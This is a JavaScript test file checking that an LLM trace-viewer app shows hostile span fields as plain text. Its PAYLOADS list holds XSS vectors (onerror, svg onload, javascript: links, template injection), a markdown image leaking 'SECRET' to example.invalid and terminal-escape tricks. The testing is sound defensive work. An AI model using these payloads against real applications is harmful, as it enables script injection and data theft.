// Hostile traces in the real window: what a model, a tool or an attacker wrote stays text.

import assert from 'node:assert/strict';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { closeDisplay } from '../lib/display.mjs';
import { Key, until } from '../lib/webdriver.mjs';
import { cli, openWindow, temporaryFolder } from '../lib/window.mjs';

const SPAN = 'feedfacefeedface';

const PAYLOADS = [
  '<img src=x onerror=window.__pwned=1>',
  '<script>window.__pwned=1</script>',
  '<svg onload=window.__pwned=1><animate onbegin=window.__pwned=1 attributeName=x dur=1s>',
  '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
  '<a href="javascript:window.__pwned=1">click me</a>',
  '[click](javascript:window.__pwned=1) ![x](https://example.invalid/p?d=SECRET)',
  '<style>@import url(https://example.invalid/x.css)</style><body onload=window.__pwned=1>',
  '<form action=https://example.invalid><input name=a autofocus onfocus=window.__pwned=1></form>',
  '{{constructor.constructor("window.__pwned=1")()}} ${window.__pwned=1}',
  '"><details open ontoggle=window.__pwned=1>',
  '\u202Egnp.exe\u202C \u200Bzero\u200Bwidth \u001b]52;c;aGk=\u0007',
  '</script></textarea></title><math><mtext></mtext><img src=x onerror=window.__pwned=1>',
];

function hostileSpan(index, text) {
  return {
    trace_id: index.toString(16).padStart(32, 'a'),
    span_id: SPAN,
    kind: 'llm',
    name: text,
    start_ns: String(1_760_000_000_000_000_000n + BigInt(index) * 1_000_000_000n),
    end_ns: String(1_760_000_000_400_000_000n + BigInt(index) * 1_000_000_000n),
    status: 'error',
    error_type: text,
    error_message: text,
    provider: text,
    model_requested: text,
    model_returned: text,
    prompt_name: text,
    prompt_version: text,
    environment: text,
    user_id_hash: text,
    input_messages: [{ role: 'user', content: text }],
    output_messages: [{ role: 'assistant', content: text }],
    documents: [{ id: text, score: 1, source: text, content: text }],
    tool_name: text,
    tool_arguments: { [text]: text, __proto__: null },
    tags: { [text]: text, constructor: text, 'llm.input_messages.999999999.content': text },
    tokens_in: 10,
    tokens_out: 5,
  };
}

describe('hostile traces', () => {
  let window;
  before(async () => {
    const home = temporaryFolder();
    const file = join(home, '<img src=x onerror=window.__pwned=1>.jsonl');
    const lines = PAYLOADS.map((text, index) => JSON.stringify(hostileSpan(index, text)));
    // The last line is broken on purpose: its text comes back in the quarantine.
    writeFileSync(file, `${lines.join('\n')}\n{"trace_id": "<img src=x onerror=window.__pwned=1>"\n`);
    const workspace = join(home, 'hostile.db');
    cli(home, ['import', file, '--workspace', workspace]);
    window = await openWindow({ home, workspace, prompts: temporaryFolder() });
  });
  after(async () => {
    await window?.close();
    await closeDisplay();
  });

  async function nothingRan(where) {
    const found = await window.session.evaluate(() => ({
      pwned: window.__pwned ?? null,
      polluted: Object.keys(Object.prototype),
      markup: document.querySelectorAll('img:not([src^="/"]), iframe, form[action], object, embed').length,
      scripts: [...document.scripts].filter((s) => !s.src.startsWith('tauri://localhost/')).length,
      handlers: [...document.querySelectorAll('*')].filter((e) =>
        [...e.attributes].some((a) => a.name.startsWith('on') || /^javascript:/i.test(a.value)),
      ).length,
    }));
    const nothing = { pwned: null, polluted: [], markup: 0, scripts: 0, handlers: 0 };
    assert.deepEqual(found, nothing, where);
    assert.deepEqual(await window.refusals(), [], `${where}: the policy was not even needed`);
  }

  test('the list shows names as they are', async () => {
    await window.goto('/traces');
    await window.sees('<img src=x onerror=window.__pwned=1>', 'main');
    await nothingRan('the trace list');
  });

  for (const [index, payload] of PAYLOADS.entries()) {
    test(`payload ${index + 1} stays text in the waterfall and the span`, async () => {
      const trace = hostileSpan(index, payload).trace_id;
      await window.goto(`/traces/${trace}?span=${SPAN}`);
      // Characters that cannot be seen are shown as marks or not at all: the words between them count.
      const visible = payload.split(/[\p{Cf}\p{Cc}]+/u).find(Boolean);
      await window.sees(visible.slice(0, 12).trimEnd(), 'main');
      await nothingRan(`trace ${index + 1}`);
      for (const tab of await window.session.all('[role=tab]')) {
        await tab.click();
        await until(
          () => window.session.evaluate(() => document.querySelector('[aria-busy=true]') === null),
          'the tab at rest',
        );
        await nothingRan(`trace ${index + 1}, a tab`);
      }
    });
  }

  test('costs, prompts and the palette show hostile names as text too', async () => {
    for (const screen of ['/cost', '/cost?scope=traces', '/replay', '/prompts', '/compare']) {
      await window.goto(screen);
      await until(() => window.session.evaluate(() => document.querySelector('main') !== null), screen);
      await nothingRan(screen);
    }
    await window.session.press([Key.Control, 'k']);
    await window.sees('Go to Traces', '[role=dialog]');
    await nothingRan('the palette');
  });
});
